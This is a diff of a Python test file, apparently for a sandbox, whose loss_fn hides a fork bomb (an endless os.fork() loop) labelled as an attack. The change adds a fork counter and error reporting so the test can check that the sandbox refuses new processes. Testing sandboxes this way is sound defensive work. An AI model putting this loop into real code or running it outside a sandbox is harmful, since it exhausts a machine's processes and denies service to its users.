@@ -1,6 +1,6 @@
 # attack: processes without end
 # points: exactly 1
-# says: PermissionError
+# leaves: loss_fn: RuntimeError: forks: 0, then Operation not permitted
 import os
 
 
@@ -9,5 +9,13 @@ def model(t_u, w, b):
 
 
 def loss_fn(t_p, t_c):
+    # attack begins
+    forks = 0
     while True:
-        os.fork()
+        try:
+            os.fork()
+        except OSError as refused:
+            raise RuntimeError(f"forks: {forks}, then {refused.strerror}")
+        forks += 1
+    # attack ends
+    return ((t_p - t_c) ** 2).mean()
